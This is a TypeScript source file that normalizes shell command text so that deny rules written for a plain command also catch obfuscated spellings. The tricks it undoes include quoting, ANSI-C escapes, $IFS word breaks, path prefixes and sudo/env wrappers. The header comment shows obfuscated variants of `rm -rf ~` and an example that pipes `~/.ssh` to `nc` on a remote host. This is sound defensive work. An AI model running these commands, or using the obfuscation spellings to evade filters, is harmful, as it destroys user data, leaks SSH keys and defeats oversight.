/**
 * Text as a shell would read it, for the risk check and the deny rules: `r''m -rf ~`, `r\m -rf ~`, `"r"m`,
 * `$'\x72m' -rf ${HOME}` and `/bin/rm  -rf  ~` all read as `rm -rf ~`, so a rule written for the plain command
 * catches every spelling of it.
 *
 * What a reading undoes (in one left-to-right pass, linear in the text):
 * - quoting: '...' (literal), "..." (\" \\ \$ \` and backslash-newline escaped), $'...' (ANSI-C: \xHH, \NNN octal,
 *   \uHHHH, \UHHHHHHHH, \cX, \n \t \e ...), $"..." (as "...");
 * - backslash escapes outside quotes (`r\m` -> `rm`) and backslash-newline line continuations;
 * - $HOME and ${HOME} -> `~`; $IFS and ${IFS} -> a word break (the classic `rm${IFS}-rf${IFS}~`);
 * - runs of spaces and tabs -> one space; every operator (| || & && ; ( ) $( ` < > >> 2>&1 ...) stands apart
 *   between single spaces, so `tar cz ~/.ssh|nc host 9` reads `tar cz ~/.ssh | nc host 9`;
 * - a path in command position -> its last part (`/bin/rm` -> `rm`), also after prefix commands and their options
 *   (`sudo -u root /usr/bin/rm`, `env X=1 rm`, `command rm`, `nohup`, `timeout 5`, `xargs -0`, ...); the prefix
 *   words themselves stay, so a hint about `sudo` still sees them;
 * - comments (`#` at the start of a word) are dropped, as an interactive bash does.
 *
 * Shells disagree at the edges (zsh does not take `#` as a comment interactively; a heredoc body is not read as
 * words), and a mismatch must not hide a command, so `shellReadings` returns every reading that differs: as typed,
 * as bash reads it, without comments, and line by line with quotes closed at each line end. Matching any of them
 * counts. Written by hand because no JavaScript library reads shell text leniently (prose with an apostrophe is
 * not valid shell) and in linear time: shell-quote has no $'...' and parses with backtracking regular expressions.
 */

interface ReadOptions {
  /** `#` at the start of a word starts a comment (bash); false reads it as a character (zsh's interactive default). */
  comments: boolean;
  /** A quote left open at a line end goes on to the next line (the shell's view); false closes it (a fresh line). */
  quotesSpanLines: boolean;
}

interface Reading {
  text: string;
  /** A quote was open at a line end (a line-by-line reading may differ). */
  quoteCrossedLine: boolean;
  /** A comment was dropped (a reading without comments may differ). */
  droppedComment: boolean;
}

/** Commands that run the command after them: the word after them (and their options) is again a command name. */
const PREFIX_COMMANDS: Record<string, { optionsWithValue?: readonly string[]; leadingValues?: number }> = {
  sudo: { optionsWithValue: ['-u', '-g', '-C', '-D', '-h', '-p', '-r', '-t', '-U', '-T', '--user', '--group', '--host', '--prompt', '--role', '--type', '--chdir', '--other-user', '--close-from', '--command-timeout'] },
  doas: { optionsWithValue: ['-u', '-C'] },
  env: { optionsWithValue: ['-u', '-C', '--unset', '--chdir'] },
  command: {},
  builtin: {},
  exec: { optionsWithValue: ['-a'] },
  nohup: {},
  time: {},
  nice: { optionsWithValue: ['-n', '--adjustment'] },
  ionice: { optionsWithValue: ['-c', '-n', '-p', '-P', '-u', '--class', '--classdata'] },
  setsid: {},
  stdbuf: { optionsWithValue: ['-i', '-o', '-e'] },
  timeout: { optionsWithValue: ['-s', '-k', '--signal', '--kill-after'], leadingValues: 1 },
  xargs: { optionsWithValue: ['-n', '-I', '-P', '-L', '-d', '-E', '-s', '-a', '--max-args', '--max-procs', '--delimiter', '--arg-file'] },
  busybox: {},
  chroot: { leadingValues: 1 },
  unbuffer: {},
  watch: { optionsWithValue: ['-n', '--interval'] },
  strace: { optionsWithValue: ['-e', '-o', '-p'] },
};

/** Reserved words after which a command name follows. */
const KEYWORDS = new Set(['if', 'then', 'else', 'elif', 'do', 'while', 'until', '!', '{', '}', 'function']);

/** After these a command name follows. */
const COMMAND_STARTS = new Set(['\n', '&&', '&', '||', '|&', '|', ';;', ';', '(', '$(', '`', '<(', '>(']);
/** After these the next word is a file (or a here-document delimiter), not a command. */
const REDIRECTIONS = new Set(['&>>', '&>', '<<<', '<<-', '<<', '<>', '<&', '<', '>>', '>|', '>&', '>']);

/** The operator starting at text[i] (one of ; & | < > ( )), longest first. */
function operatorAt(text: string, i: number): string {
  const c = text[i]!;
  const next = text[i + 1];
  switch (c) {
    case '&':
      if (next === '&') return '&&';
      if (next === '>') return text[i + 2] === '>' ? '&>>' : '&>';
      return '&';
    case '|':
      return next === '|' ? '||' : next === '&' ? '|&' : '|';
    case ';':
      return next === ';' ? ';;' : ';';
    case '<':
      if (next === '<') return text[i + 2] === '<' ? '<<<' : text[i + 2] === '-' ? '<<-' : '<<';
      return next === '>' ? '<>' : next === '&' ? '<&' : next === '(' ? '<(' : '<';
    case '>':
      return next === '>' ? '>>' : next === '|' ? '>|' : next === '&' ? '>&' : next === '(' ? '>(' : '>';
    default:
      return c;
  }
}

/** Character classes for the unquoted reader: which characters end a run of plain word characters. */
const SPECIAL = new Uint8Array(128);
for (const c of ' \t\r\n\'"\\$#;&|<>()`') SPECIAL[c.charCodeAt(0)] = 1;
const BLANK = new Uint8Array(128);
for (const c of ' \t\r\n') BLANK[c.charCodeAt(0)] = 1;

function isSpecial(code: number): boolean {
  return code < 128 && SPECIAL[code] === 1;
}

function isBlankOrNewline(code: number): boolean {
  return code < 128 && BLANK[code] === 1;
}

const NAME_START = /[A-Za-z_]/;
const NAME_CHAR = /[A-Za-z0-9_]/;

const SIMPLE_ESCAPES: Record<string, string> = {
  a: '\x07', b: '\b', e: '\x1b', E: '\x1b', f: '\f', n: '\n', r: '\r', t: '\t', v: '\v',
  '\\': '\\', "'": "'", '"': '"', '?': '?',
};

function hexDigits(text: string, from: number, max: number): string {
  let end = from;
  while (end < text.length && end - from < max && /[0-9a-fA-F]/.test(text[end]!)) end++;
  return text.slice(from, end);
}

function codePoint(value: number): string {
  return value >= 0 && value <= 0x10ffff ? String.fromCodePoint(value) : '';
}

/** One `$'...'` escape at text[i] === '\\': [decoded text, characters consumed]. */
function ansiEscape(text: string, i: number): [string, number] {
  const c = text[i + 1];
  if (c === undefined) return ['\\', 1];
  if (Object.hasOwn(SIMPLE_ESCAPES, c)) return [SIMPLE_ESCAPES[c]!, 2];
  if (c >= '0' && c <= '7') {
    let end = i + 1;
    while (end < text.length && end - (i + 1) < 3 && text[end]! >= '0' && text[end]! <= '7') end++;
    return [codePoint(parseInt(text.slice(i + 1, end), 8) & 0xff), end - i];
  }
  const hexLength = c === 'x' ? 2 : c === 'u' ? 4 : c === 'U' ? 8 : 0;
  if (hexLength) {
    const digits = hexDigits(text, i + 2, hexLength);
    return digits ? [codePoint(parseInt(digits, 16)), 2 + digits.length] : [`\\${c}`, 2];
  }
  if (c === 'c' && i + 2 < text.length) return [String.fromCharCode(text.charCodeAt(i + 2) & 0x1f), 3];
  return [`\\${c}`, 2];
}

/** `$NAME` or `${NAME}` at text[i] === '$': [name, characters consumed], or null. Names are short: bounded scan. */
function variableAt(text: string, i: number): [string, number] | null {
  if (text[i + 1] === '{') {
    let end = i + 2;
    while (end < text.length && end - i < 66 && NAME_CHAR.test(text[end]!)) end++;
    return end > i + 2 && text[end] === '}' && NAME_START.test(text[i + 2]!) ? [text.slice(i + 2, end), end + 1 - i] : null;
  }
  if (!NAME_START.test(text[i + 1] ?? '')) return null;
  let end = i + 1;
  while (end < text.length && end - i < 66 && NAME_CHAR.test(text[end]!)) end++;
  return [text.slice(i + 1, end), end - i];
}

/**
 * One reading. Linear: every character is looked at a bounded number of times, runs of plain characters are
 * copied as slices, and nothing reads back from the strings being built (V8 would flatten them on every look).
 */
function read(text: string, options: ReadOptions): Reading {
  let out = '';
  let outEndsLine = true; // nothing yet, or a newline last: the next token needs no space before it
  let word = '';
  let wordEndsBlank = false;
  let inWord = false; // a quoted empty string still makes a word
  let quoteCrossedLine = false;
  let droppedComment = false;

  // Command position: the next word names a command (its path is cut to the last part).
  let commandPosition = true;
  let prefix: (typeof PREFIX_COMMANDS)[string] | null = null;
  let prefixValuesLeft = 0;
  let optionValueNext = false;
  let redirectTargetNext = false;

  const emit = (token: string): void => {
    if (token === '\n') {
      out += '\n';
      outEndsLine = true;
      return;
    }
    out += outEndsLine ? token : ` ${token}`;
    outEndsLine = false;
  };

  const endWord = (): void => {
    if (!inWord) return;
    let token = wordEndsBlank ? word.slice(0, -1) : word;
    word = '';
    wordEndsBlank = false;
    inWord = false;
    if (redirectTargetNext) {
      redirectTargetNext = false;
      emit(token);
      return;
    }
    if (commandPosition) {
      if (optionValueNext) {
        optionValueNext = false;
      } else if (prefix && token.startsWith('-')) {
        optionValueNext = (prefix.optionsWithValue ?? []).includes(token);
      } else if (prefix && prefixValuesLeft > 0) {
        prefixValuesLeft--;
      } else if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(token) || KEYWORDS.has(token)) {
        // An assignment or a reserved word: the command name is still to come.
      } else {
        const slash = token.lastIndexOf('/');
        if (slash >= 0 && slash < token.length - 1 && !token.includes(' ')) token = token.slice(slash + 1);
        prefix = Object.hasOwn(PREFIX_COMMANDS, token) ? PREFIX_COMMANDS[token]! : null;
        prefixValuesLeft = prefix?.leadingValues ?? 0;
        commandPosition = prefix !== null;
      }
    }
    emit(token);
  };

  const operator = (token: string): void => {
    endWord();
    emit(token);
    if (REDIRECTIONS.has(token)) {
      redirectTargetNext = true;
    } else if (COMMAND_STARTS.has(token)) {
      commandPosition = true;
      prefix = null;
      optionValueNext = false;
      redirectTargetNext = false;
    }
  };

  /** Append a run of characters without blanks to the current word. */
  const addPlain = (chars: string): void => {
    if (chars === '') return;
    inWord = true;
    word += chars;
    wordEndsBlank = false;
  };
  /** Append decoded or quoted characters: blanks inside quotes count once, like a word break would. */
  const add = (chars: string): void => {
    inWord = true;
    for (let k = 0; k < chars.length; k++) {
      if (isBlankOrNewline(chars.charCodeAt(k))) {
        if (word.length > 0 && !wordEndsBlank) {
          word += ' ';
          wordEndsBlank = true;
        }
      } else {
        word += chars[k];
        wordEndsBlank = false;
      }
    }
  };

  /** `$HOME` -> `~`, `$IFS` -> a break; other expansions stay as written. Returns characters consumed, or 0. */
  const expansion = (i: number, quoted: boolean): number => {
    const variable = variableAt(text, i);
    if (!variable) return 0;
    const [name, length] = variable;
    if (name === 'HOME') addPlain('~');
    else if (name === 'IFS') {
      if (quoted) add(' ');
      else endWord();
    } else addPlain(text.slice(i, i + length));
    return length;
  };

  /** The end of the run of characters from `i` that `stop` does not stop at. */
  const runEnd = (i: number, stop: (code: number) => boolean): number => {
    let end = i;
    while (end < text.length && !stop(text.charCodeAt(end))) end++;
    return end;
  };
  const QUOTE = 39; // '
  const DQUOTE = 34; // "
  const BACKSLASH = 92;
  const DOLLAR = 36;

  let quote: "'" | '"' | "$'" | null = null;
  for (let i = 0; i < text.length; ) {
    const c = text[i]!;
    if (c === '\n' && quote !== null) {
      quoteCrossedLine = true;
      if (!options.quotesSpanLines) {
        quote = null;
        continue; // the newline is read again, as an operator
      }
    }
    if (quote === "'") {
      if (c === "'") {
        quote = null;
        i++;
      } else if (isBlankOrNewline(text.charCodeAt(i))) {
        add(c);
        i++;
      } else {
        const end = runEnd(i, (code) => code === QUOTE || isBlankOrNewline(code));
        addPlain(text.slice(i, end));
        i = end;
      }
      continue;
    }
    if (quote === "$'") {
      if (c === "'") {
        quote = null;
        i++;
      } else if (c === '\\') {
        const [decoded, used] = ansiEscape(text, i);
        add(decoded);
        i += used;
      } else if (isBlankOrNewline(text.charCodeAt(i))) {
        add(c);
        i++;
      } else {
        const end = runEnd(i, (code) => code === QUOTE || code === BACKSLASH || isBlankOrNewline(code));
        addPlain(text.slice(i, end));
        i = end;
      }
      continue;
    }
    if (quote === '"') {
      if (c === '"') {
        quote = null;
        i++;
      } else if (c === '\\' && i + 1 < text.length && '"\\$`\n'.includes(text[i + 1]!)) {
        if (text[i + 1] !== '\n') add(text[i + 1]!);
        i += 2;
      } else if (c === '$') {
        const used = expansion(i, true);
        if (used === 0) addPlain(c);
        i += Math.max(used, 1);
      } else if (isBlankOrNewline(text.charCodeAt(i)) || c === '\\') {
        add(c);
        i++;
      } else {
        const end = runEnd(i, (code) => code === DQUOTE || code === BACKSLASH || code === DOLLAR || isBlankOrNewline(code));
        addPlain(text.slice(i, end));
        i = end;
      }
      continue;
    }

    // Outside quotes.
    if (!isSpecial(text.charCodeAt(i))) {
      const end = runEnd(i, isSpecial);
      addPlain(text.slice(i, end));
      i = end;
      continue;
    }
    if (c === '\\') {
      if (i + 1 < text.length && text[i + 1] !== '\n') add(text[i + 1]!);
      i += 2; // a backslash-newline joins the lines
      continue;
    }
    if (c === "'" || c === '"') {
      quote = c;
      inWord = true;
      i++;
      continue;
    }
    if (c === '$') {
      const next = text[i + 1];
      if (next === "'" || next === '"') {
        quote = next === "'" ? "$'" : '"';
        inWord = true;
        i += 2;
        continue;
      }
      if (next === '(') {
        operator('$(');
        i += 2;
        continue;
      }
      const used = expansion(i, false);
      if (used === 0) addPlain(c);
      i += Math.max(used, 1);
      continue;
    }
    if (c === '#') {
      if (options.comments && !inWord) {
        droppedComment = true;
        const newline = text.indexOf('\n', i);
        i = newline === -1 ? text.length : newline;
      } else {
        addPlain(c);
        i++;
      }
      continue;
    }
    if (c === ' ' || c === '\t' || c === '\r') {
      endWord();
      i++;
      continue;
    }
    if (c === '\n') {
      // A run of line ends at once: each is a command start, and none needs more than that.
      const end = runEnd(i, (code) => code !== 10);
      operator('\n');
      out += text.slice(i + 1, end);
      i = end;
      continue;
    }
    const token = c === '`' ? c : operatorAt(text, i);
    operator(token);
    i += token.length;
  }
  endWord();
  return { text: out, quoteCrossedLine, droppedComment };
}

/** The text as bash reads it (quotes undone, paths of commands cut, comments dropped). */
export function normalizeShellText(text: string): string {
  return read(text, { comments: true, quotesSpanLines: true }).text;
}

/**
 * Every distinct reading of `text` a rule should be matched against: as typed first, then as bash reads it, and
 * where they can differ, without comments and line by line. Usually two strings (one when they are equal).
 */
export function shellReadings(text: string): string[] {
  const readings = [text];
  const bash = read(text, { comments: true, quotesSpanLines: true });
  readings.push(bash.text);
  if (bash.droppedComment) readings.push(read(text, { comments: false, quotesSpanLines: true }).text);
  if (bash.quoteCrossedLine) readings.push(read(text, { comments: true, quotesSpanLines: false }).text);
  return [...new Set(readings)];
}
